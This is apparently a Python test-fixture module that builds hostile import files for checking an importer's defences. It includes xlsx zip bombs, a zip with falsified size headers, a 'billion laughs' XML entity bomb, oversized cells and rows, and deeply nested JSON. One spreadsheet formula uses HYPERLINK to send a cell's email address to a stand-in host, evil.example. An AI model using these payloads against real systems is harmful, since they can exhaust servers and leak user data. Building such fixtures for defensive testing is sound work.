"""Hostile import files, generated on demand: bombs, huge cells, broken bytes, lying names."""

from __future__ import annotations

import json
import struct
import zipfile
from pathlib import Path

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
_SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_CLOSE = "</sheetData></worksheet>"


def _col(n: int) -> str:
    name = ""
    while n:
        n, rem = divmod(n - 1, 26)
        name = chr(65 + rem) + name
    return name


def sheet_row(number: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{_col(i)}{number}" t="inlineStr"><is><t xml:space="preserve">{v}</t></is></c>'
        for i, v in enumerate(values, start=1)
    )
    return f'<row r="{number}">{cells}</row>'


def write_xlsx(path: Path, sheet_xml: str | bytes, *, level: int = 6) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return path


def rows_xml(rows: list[list[str]]) -> str:
    return "".join(sheet_row(i, r) for i, r in enumerate(rows, start=1))


PEOPLE = [["email", "name"], ["ana@example.org", "Ana Lima"], ["bo@example.org", "Bo Berg"]]


def xlsx_zip_bomb(path: Path, unpacked_mb: int = 300) -> Path:
    """A sheet whose XML is padded with whitespace: ~1000:1, far beyond any real workbook."""
    padding = " " * (unpacked_mb * 1024 * 1024)
    return write_xlsx(path, _SHEET_OPEN + rows_xml(PEOPLE) + padding + _SHEET_CLOSE, level=9)


def xlsx_lying_sizes(path: Path) -> Path:
    """The zip bomb again, with its central directory claiming tiny uncompressed sizes."""
    xlsx_zip_bomb(path, unpacked_mb=200)
    data = bytearray(path.read_bytes())
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        compressed = struct.unpack_from("<I", data, pos + 20)[0]
        struct.pack_into("<I", data, pos + 24, compressed * 2)
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))
    return path


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def xlsx_entity_bomb(path: Path, *, hidden: bool = False) -> Path:
    """Billion laughs in the sheet; hidden=True puts 8 KB of comment before the DOCTYPE."""
    comment = f"<!--{'x' * 8192}-->" if hidden else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        + comment
        + _LAUGHS
        + _SHEET_OPEN.split("?>", 1)[1]
        + sheet_row(1, ["email", "name"])
        + sheet_row(2, ["ana@example.org", "&lol9;"])
        + _SHEET_CLOSE
    )
    return write_xlsx(path, sheet)


def xlsx_big_cell(path: Path, mb: int = 50, *, random_text: bool = False) -> Path:
    if random_text:  # compresses like real text (~2:1), so only the cell limit can stop it
        import random

        cell = random.Random(8).randbytes(mb * 512 * 1024).hex()
    else:
        cell = "x" * (mb * 1024 * 1024)
    rows = rows_xml(PEOPLE[:2]) + sheet_row(3, ["bo@example.org", cell])
    return write_xlsx(path, _SHEET_OPEN + rows + _SHEET_CLOSE)


def xlsx_wide(path: Path, columns: int = 5000) -> Path:
    header = [f"c{i}" for i in range(columns)]
    return write_xlsx(path, _SHEET_OPEN + rows_xml([header, ["v"] * columns]) + _SHEET_CLOSE)


def xlsx_formulas(path: Path) -> Path:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["email", "note"])
    ws.append(["ana@example.org", '=HYPERLINK("http://evil.example/?"&A2,"click")'])
    ws.append(["bo@example.org", "=1+1"])
    wb.save(path)
    return path


def csv_big_cell(path: Path, mb: int = 50) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write("email,name\nana@example.org,Ana Lima\n")
        f.write("bo@example.org,")
        f.write("x" * (mb * 1024 * 1024))
        f.write("\ncy@example.org,Cy Dahl\n")
    return path


def jsonl_big_value(path: Path, mb: int) -> Path:
    with path.open("w", encoding="utf-8") as f:
        f.write(json.dumps({"email": "ana@example.org", "name": "Ana Lima"}) + "\n")
        f.write('{"email": "bo@example.org", "name": "')
        f.write("x" * (mb * 1024 * 1024))
        f.write('"}\n')
        f.write(json.dumps({"email": "cy@example.org", "name": "Cy Dahl"}) + "\n")
    return path


def jsonl_nested(path: Path, depth: int) -> Path:
    nested = '{"a":' * depth + "1" + "}" * depth
    with path.open("w", encoding="utf-8") as f:
        f.write(json.dumps({"email": "ana@example.org", "name": "Ana Lima"}) + "\n")
        f.write('{"email": "bo@example.org", "deep": ' + nested + "}\n")
    return path


def jsonl_wide(path: Path, keys: int = 5000) -> Path:
    path.write_text(json.dumps({f"k{i}": "v" for i in range(keys)}) + "\n", "utf-8")
    return path


def csv_wide(path: Path, columns: int = 5000) -> Path:
    header = ",".join(f"c{i}" for i in range(columns))
    path.write_text(header + "\n" + ",".join(["v"] * columns) + "\n", "utf-8")
    return path


def csv_bytes(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def one_long_line(path: Path, mb: int, *, start: bytes = b"", end: bytes = b"") -> Path:
    """start, then mb megabytes of one line (no newline, written in pieces), then end."""
    piece = b"x" * (1 << 20)
    with path.open("wb") as f:
        f.write(start)
        for _ in range(mb):
            f.write(piece)
        f.write(end)
    return path


def csv_long_row(path: Path, mb: int) -> Path:
    """A good row, a row mb megabytes long, a good row."""
    return one_long_line(
        path,
        mb,
        start=b"email,name\nana@example.org,Ana Lima\nbo@example.org,",
        end=b"\ncy@example.org,Cy Dahl\n",
    )
